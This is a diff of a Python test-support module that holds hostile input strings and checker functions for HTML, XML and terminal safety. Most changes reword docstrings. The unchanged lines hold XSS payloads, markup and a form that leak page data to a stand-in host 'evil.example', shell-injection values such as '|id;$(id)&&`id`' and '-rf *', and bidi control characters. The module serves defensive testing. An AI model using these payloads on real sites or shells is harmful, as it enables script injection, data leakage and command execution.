@@ -1,4 +1,4 @@
-"""Strings that attack, and the judges that say whether a page, a document or a terminal withstood them."""
+"""Hold hostile strings, and find what of them is active in a page, document or terminal."""
 
 from __future__ import annotations
 
@@ -101,7 +101,7 @@ VECTORS = (
     "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
     "<img srcset='javascript:alert(1) 1x, data:text/html,x 2x' src=x>",
     "<video poster=javascript:alert(1)></video><blockquote cite=javascript:alert(1)>x</blockquote>",
-    # markup left open
+    # unclosed markup
     "<img src='https://evil.example/?leak=",
     "<textarea><form action=https://evil.example/><button>x",
     "<plaintext>",
@@ -146,7 +146,7 @@ VECTORS = (
     "~root",
     "-rf *",
     "|id;$(id)&&`id`",
-    # much of it
+    # large ones
     "A" * 5_000,
     "<b>" * 200 + "deep",
     "'\"<>&" * 400,
@@ -218,7 +218,7 @@ POISON = (
     "\x00",
     "\ud800\udfff",
 )
-"""Texts that made some function of Python raise, or look as if they could: addresses, figures, dates, escapes."""
+"""Texts that make functions of Python raise, or might: URLs, numbers, dates, escapes."""
 
 BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
 
@@ -237,9 +237,9 @@ _METAS = frozenset({"", "content-security-policy"})
 
 
 def faults(page: str) -> list[str]:
-    """Everything in an HTML text that could run, load or lead astray; empty for a harmless page.
+    """List what in an HTML text could run, load or mislead; empty for a harmless page.
 
-    Judged on the tree that the parsing algorithm of HTML builds, which is the one a browser builds.
+    The parsing algorithm of HTML builds the tree that is checked, as in a browser.
     """
     return [
         f"<{str(element.tag).removeprefix(_HTML)}> {fault}"
@@ -250,7 +250,7 @@ def faults(page: str) -> list[str]:
 
 
 def parsed(page: str) -> Element:
-    """The document a browser would build; every element has a namespace."""
+    """Parse HTML as a browser does; every element has a namespace."""
     tree: Element = html5lib.parse(page)
     return tree
 
@@ -285,7 +285,7 @@ def _harmless_address(value: str) -> bool:
 
 
 def shape(page: str) -> list[tuple[str, tuple[str, ...]]]:
-    """Elements and the names of their attributes in document order: what no text may ever change."""
+    """List elements and names of attributes in document order, which no text may change."""
     return [(str(e.tag), tuple(sorted(map(str, e.attrib)))) for e in parsed(page).iter()]
 
 
@@ -293,7 +293,7 @@ _NO_XML = re.compile("[^\t\n\r\x20-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]")
 
 
 def xml_faults(document: bytes) -> list[str]:
-    """What is wrong with an XML document: not well-formed, or characters that XML 1.0 cannot have."""
+    """List problems of an XML document: not well-formed, or characters outside XML 1.0."""
     try:
         root = etree.fromstring(document)
     except etree.XMLSyntaxError as error:
@@ -307,7 +307,7 @@ def xml_faults(document: bytes) -> list[str]:
 
 
 def terminal_faults(said: str) -> list[str]:
-    """Characters that a terminal obeys, or that show something else than is written; line ends are allowed."""
+    """List characters that control a terminal or reorder its text; line ends are allowed."""
     return sorted(
         {
             f"{char!r} in {line[:120]!r}"
